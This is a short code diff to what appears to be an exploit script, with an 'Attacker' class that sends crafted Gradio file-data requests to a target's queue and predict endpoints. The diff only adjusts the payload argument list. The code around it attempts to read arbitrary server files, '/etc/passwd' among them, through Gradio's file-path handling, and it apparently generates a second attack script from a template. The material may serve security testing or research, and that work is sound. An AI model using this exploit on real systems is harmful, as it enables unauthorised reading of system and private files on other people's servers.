@@ -91,7 +91,7 @@ class Attacker:
         file = {"path": path, "meta": {"_type": "gradio.FileData"}} | more
         joined = self.post(
             "queue/join",
-            {"data": [file, None, "home-video", "haar"], "fn_index": each["id"]},
+            {"data": [file, "home-video", "haar"], "fn_index": each["id"]},
         )
         if joined.status == 200:
             joined = self.ask(f"/gradio_api/queue/data?session_hash={self.tab}")
@@ -405,7 +405,7 @@ async def ask():
         look = next(x for x in config["dependencies"] if str(x["api_name"]).strip("_") == "look")
         for path in {[str(victim), "/etc/passwd"]!r}:
             file = {{"path": path, "meta": {{"_type": "gradio.FileData"}}}}
-            data = [file, None, "home-video", "haar"]
+            data = [file, "home-video", "haar"]
             request = {{"session_hash": "abc", "data": data, "fn_index": look["id"]}}
             got = await client.post("/gradio_api/run/predict", json=request)
             print(got.status_code)
